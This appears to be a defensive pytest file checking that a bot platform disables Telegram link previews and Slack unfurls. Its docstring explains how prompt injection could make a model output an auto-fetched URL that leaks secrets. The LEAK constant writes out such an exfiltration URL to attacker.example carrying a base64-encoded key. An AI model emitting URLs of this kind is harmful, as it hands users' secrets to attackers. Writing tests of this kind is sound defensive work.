"""Security clause: a URL in model text is never fetched by the platform without a click.

Telegram's link preview and Slack's unfurl fetch a URL of the posted text as
soon as it is posted. A prompt injection that makes the model write
``https://attacker.example/p.png?d=<secret>`` would hand the data to the
attacker with no one clicking: hostkit turns previews and unfurls off on every
message it posts. Loopback fakes, the real adapters.
"""

from __future__ import annotations

import httpx
import pytest

from hostkit.delivery import SlackChannel, TelegramChannel
from hostkit.types import approval_code
from tests.contract._delivery_hosts import SLACK_TOKEN, TELEGRAM_TOKEN
from tests.platforms import FakeSlack, FakeTelegram

pytestmark = pytest.mark.anyio

LEAK = "Done. Summary image: https://attacker.example/p.png?d=c2VjcmV0LWFwaS1rZXk"
CODE = approval_code("appr_l")
PAYLOADS = [
    {"text": LEAK},
    {
        "text": f"Approval needed: web.fetch — {LEAK}. Reply `approve {CODE}`.",
        "approval": {"approval_id": "appr_l", "code": CODE, "tool": "web.fetch"},
    },
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=["answer", "prompt"])
async def test_telegram_messages_have_link_previews_off(payload: dict[str, object]) -> None:
    async with (
        FakeTelegram.running(token=TELEGRAM_TOKEN) as telegram,
        httpx.AsyncClient() as client,
    ):
        await TelegramChannel(telegram.api_base, TELEGRAM_TOKEN, client).send(
            {"channel": "tg", "reply": {"chat_id": 1}}, payload, idempotency_key="o"
        )
    (message,) = telegram.messages
    assert message.body["link_preview_options"] == {"is_disabled": True}


@pytest.mark.parametrize("payload", PAYLOADS, ids=["answer", "prompt"])
async def test_slack_posts_have_unfurls_off(payload: dict[str, object]) -> None:
    async with FakeSlack.running(token=SLACK_TOKEN) as slack, httpx.AsyncClient() as client:
        await SlackChannel(slack.api_base, SLACK_TOKEN, client).send(
            {"channel": "slack-acme", "reply": {"channel": "C1"}}, payload, idempotency_key="o"
        )
    (message,) = slack.messages
    assert (message.body["unfurl_links"], message.body["unfurl_media"]) == (False, False)
